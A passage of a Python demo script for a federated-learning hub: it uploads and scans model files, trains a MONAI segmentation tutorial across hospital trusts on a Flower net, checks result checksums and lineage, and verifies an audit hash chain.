        raise DemoError(f"the poisoned checkpoint is {statuses.get('checkpoint.pt')}, expected BLOCKED")
    clean = next(f for f in detail["files"] if f["name"] == "models.py")
    body = _download(ctx, researcher.token, f"/api/models/{model_id}/files/{clean['id']}/content")
    if hashlib.sha256(body).hexdigest() != clean["sha256"]:
        raise DemoError("the downloaded models.py does not match its checksum")
    ctx.say(researcher.role, "every required file is in and clean; models.py downloads back byte for byte")

    # Training requests are checked before anything is queued, then wait for an FL net of their backend.
    refused = client.call(
        "POST",
        f"/api/models/{model_id}/jobs",
        token=researcher.token,
        json={"config": {"rounds": 3, "strategy": "fedadam"}},
        expect=(422,),
    )
    ctx.say(researcher.role, f"asked for FedAdam on a FedAvg job -> refused ({refused['code']})")
    job = client.call(
        "POST",
        f"/api/models/{model_id}/jobs",
        token=researcher.token,
        json={"config": {"rounds": 3, "min_clients": 2, "round_timeout_s": 300}},
        expect=(201,),
    )
    ctx.say(
        researcher.role,
        f"training queued at {len(job['trust_ids'])} trusts, 3 rounds, k=2 of 2: {job['status']}, "
        f"position {job['queue_position']} in the Flower queue",
    )
    stopped = client.call("POST", f"/api/models/{model_id}/stop", token=researcher.token)
    ctx.say(researcher.role, f"stopped it while queued -> {stopped['status']} (no FL net is registered yet)")
    return {
        "id": model_id,
        "files": statuses,
        "missing_files": detail["missing_files"],
        "job": {"queued_position": job["queue_position"], "trusts": len(job["trust_ids"]), "final": stopped["status"]},
    }


# -------------------------------------------------------------------------------------------- training

TUTORIAL = Path(flip_fl.__file__).resolve().parents[2] / "tutorials" / "segmentation"
TUTORIAL_FILES = ("client_app.py", "models.py", "config.json")
TRAINING_ROUNDS = 3
TRAINING_TIMEOUT_S = 900.0


def _start_fl_net(ctx: DemoContext) -> tuple[str, FlNetProcess]:
    """An admin registers an FL net; the net starts with the key the hub minted for it."""
    client, admin = ctx.require_client(), ctx.users[ADMIN]
    port = free_port()
    created = client.call(
        "POST",
        "/api/fl/nets",
        token=admin.token,
        json={"name": "flower-demo", "backend": "FLOWER", "endpoint": f"http://127.0.0.1:{port}"},
        expect=(201,),
    )
    key = str(created["key"])
    env = child_environment(database_url="", state_dir=ctx.state_dir, public_url=ctx.hub_url)
    env.pop("DATABASE_URL")
    env["FLIP_NET_KEY"] = key
    net = FlNetProcess(
        name="flower-demo",
        state_dir=ctx.state_dir / "fl-net",
        port=port,
        hub_url=ctx.hub_url,
        env=env,
        log_path=ctx.state_dir / "logs" / "fl-net.log",
    )
    ctx.stack.callback(net.stop)
    net.start()
    health = net.wait_healthy(key)
    ctx.say(
        admin.role,
        f"registered FL net flower-demo; its SuperLink listens for trusts at {health['fleet_address']} "
        "(TLS, only registered SuperNode keys)",
    )
    return key, net


def _wait_for_supernodes(ctx: DemoContext, net: FlNetProcess, key: str, codes: list[str]) -> None:
    """Until the worker has registered every trust's SuperNode key on the net (the agents then dial it)."""
    deadline = time.monotonic() + 120
    with httpx.Client(base_url=net.url, headers={"X-FLIP-Internal-Key": key}, timeout=10) as http:
        while True:
            nodes = http.get("/health").json().get("nodes", [])
            if set(codes) <= set(nodes):
                break
            if time.monotonic() > deadline:
                raise DemoError(f"trust SuperNode keys were not registered on the net: {nodes}\n{net.log_tail()}")
            time.sleep(0.5)
    ctx.say("hub", "registered each trust's SuperNode key on the net under its trust code; the agents dial out to it")


def _round_line(event: dict[str, Any], metric: str) -> str:
    metrics = event["payload"]["metrics"]
    parts = [f"{code} {metric}={values.get(metric, float('nan')):.3f}" for code, values in sorted(metrics.items())]
    mean = event["payload"]["aggregated"].get(metric, float("nan"))
    return f"{', '.join(parts)}; weighted mean {mean:.3f}"


def train_model(ctx: DemoContext) -> PhaseResult:
    """Train the segmentation tutorial on Flower across the trusts that approved the imaging project."""
    client, researcher = ctx.require_client(), ctx.users[RESEARCHER]
    project_id = ctx.imaging_project_id
    if project_id is None:
        raise DemoError("no imaging project: the imaging phase did not run")
    key, net = _start_fl_net(ctx)
    codes = [ctx.trusts[SITE_TRUST].code, ctx.trusts[HUB_TRUST].code]
    _wait_for_supernodes(ctx, net, key, codes)

    model = client.call(
        "POST",
        f"/api/projects/{project_id}/models",
        token=researcher.token,
        json={"name": "Demo: organ segmentation (MONAI UNet)", "description": "fl/tutorials/segmentation"},
        expect=(201,),
    )
    model_id = str(model["id"])
    for name in TUTORIAL_FILES:
        client.call(
            "PUT",
            f"/api/models/{model_id}/files/{name}",
            token=researcher.token,
            content=(TUTORIAL / name).read_bytes(),
            expect=(201,),
        )
    ctx.say(researcher.role, f"uploaded the segmentation tutorial as-is ({', '.join(TUTORIAL_FILES)}); all CLEAN")
    job = client.call(
        "POST",
        f"/api/models/{model_id}/jobs",
        token=researcher.token,
        json={"config": {"rounds": TRAINING_ROUNDS, "min_clients": len(codes), "round_timeout_s": 600, "seed": 1}},
        expect=(201,),
    )
    job_id = str(job["id"])
    ctx.say(researcher.role, f"training requested: {TRAINING_ROUNDS} rounds of FedAvg at {', '.join(codes)}")

    started = time.monotonic()
    shown: set[int] = set()
    status = ""
    detail: dict[str, Any] = {}
    rounds: list[dict[str, Any]] = []
    while time.monotonic() - started < TRAINING_TIMEOUT_S:
        detail = client.get_json(f"/api/models/{model_id}/jobs/{job_id}", token=researcher.token)
        if detail["job"]["status"] != status:
            status = detail["job"]["status"]
            bundle = detail["job"]["bundle_sha256"]
            extra = f" (bundle sha256 {bundle[:12]}...)" if bundle else ""
            ctx.say("hub", f"job {status.lower()}{extra} after {time.monotonic() - started:.0f} s")
        for index, event in enumerate(detail["events"]):
            if index in shown:
                continue
            shown.add(index)
            if event["event"] == "round_completed":
                phase = event["payload"]["phase"]
                label = f"round {event['round']} (training)" if phase == "train" else "final evaluation (held-out)"
                ctx.say("FL server", f"{label}: {_round_line(event, 'dice')}")
                rounds.append({"round": event["round"], "phase": phase, "metrics": event["payload"]["metrics"]})
            elif event["event"] == "trust_dropped":
                ctx.say("FL server", f"trust {event['payload']['trust']} dropped: {event['payload']['reason']}")
        if status in {"RESULTS_UPLOADED", "ERROR", "STOPPED", "RESULTS_UPLOAD_FAILED"}:
            break
        time.sleep(1.0)
    if status != "RESULTS_UPLOADED":
        raise DemoError(
            f"training ended {status or 'nowhere'}: {detail.get('job', {}).get('reason')}\n"
            f"{detail.get('log_tail') or ''}\n{net.log_tail()}"
        )
    results = {r["name"]: r for r in detail["results"]}
    weights = _download(ctx, researcher.token, f"/api/models/{model_id}/jobs/{job_id}/results/model.pt")
    if hashlib.sha256(weights).hexdigest() != results["model.pt"]["sha256"]:
        raise DemoError("the downloaded model does not match its checksum")
    lineage = json.loads(_download(ctx, researcher.token, f"/api/models/{model_id}/jobs/{job_id}/results/lineage.json"))
    ctx.say(
        researcher.role,
        f"downloaded the final model ({len(weights) / 1024:.0f} KiB, sha256 {lineage['model']['sha256'][:12]}...) and "
        f"its lineage: bundle {lineage['bundle_sha256'][:12]}..., seed {lineage['seed']}, cohorts "
        + ", ".join(f"{c} {v['sha256'][:8]}" for c, v in sorted(lineage["cohort_snapshots"].items()))
        + ", "
        + ", ".join(f"{k} {v}" for k, v in sorted(lineage["versions"].items())),
    )
    outsider = ctx.trusts[SMALL_TRUST]
    installed = list((ctx.state_dir / "agents" / outsider.code / "fl" / "nets").glob("*/flwr-home/apps/*"))
    ctx.say(
        f"trust {outsider.code}",
        f"connected to the same net throughout, but never approved the project: it received no app and ran nothing "
        f"({len(installed)} apps installed)",
    )
    if installed:
        raise DemoError(f"trust {outsider.code} was never selected, yet it installed {installed}")
    final = [r for r in rounds if r["phase"] == "evaluate"]
    return {
        "unselected_trust_apps": len(installed),
        "model_id": model_id,
        "job_id": job_id,
        "job_status": status,
        "train_s": round(time.monotonic() - started, 1),
        "rounds": rounds,
        "final_dice": {c: m.get("dice") for c, m in final[-1]["metrics"].items()} if final else {},
        "lineage": {
            "bundle_sha256": lineage["bundle_sha256"],
            "selected_trusts": lineage["selected_trusts"],
            "cohort_snapshots": sorted(lineage["cohort_snapshots"]),
            "versions": lineage["versions"],
        },
    }


def _download(ctx: DemoContext, token: str, path: str) -> bytes:
    with httpx.Client(base_url=ctx.hub_url, timeout=30) as http:
        response = http.get(path, headers={"Authorization": f"Bearer {token}"})
    if response.status_code != 200:
        raise DemoError(f"GET {path} answered {response.status_code}")
    return response.content


# -------------------------------------------------------------------------------------------- audit


def verify_audit_chain(ctx: DemoContext) -> PhaseResult:
    """Recompute the audit log's hash chain over everything the walkthrough did."""
    report = ctx.require_db().run(verify_chain)
    if not report.ok:
        problems = "; ".join(f"seq {p.seq}: {p.problem}" for p in report.problems[:5])
        raise DemoError(f"the audit chain is broken: {problems}")
    ctx.say("auditor", f"{report.entries} audit entries, hash chain intact (head {report.head_hash[:16]}...)")
    return {"entries": report.entries, "chain_ok": True, "head_hash": report.head_hash}


PHASES: list[Phase] = [
    Phase("hub", "Start PostgreSQL and the hub", start_hub),
    Phase("users", "Create users and sign them in with MFA", create_and_sign_in_users),
    Phase("trusts", "Register trusts and check their kits", register_trusts),
    Phase("data", "Each trust's OMOP data, data-access-api, seeded PACS and imaging-api", prepare_trust_data),
    Phase("link", "Start the trust agents and round-trip a task to each", link_trusts),
    Phase("cohort", "Create a project and run its cohort query at every trust", run_cohort_query),
    Phase("project", "Stage, approve, and freeze the cohort at each approving trust", run_approvals),
    Phase("imaging", "Approve an imaging project; each trust imports its studies from its PACS", run_imaging),
    Phase(
        "models",
        "Create a model; upload and scan its files (a poisoned checkpoint is blocked); queue and stop training",
        create_model,
    ),
    Phase("training", "Train the segmentation tutorial on a Flower net across the trusts (3 rounds, CPU)", train_model),
    Phase("audit", "Verify the audit chain", verify_audit_chain),
]
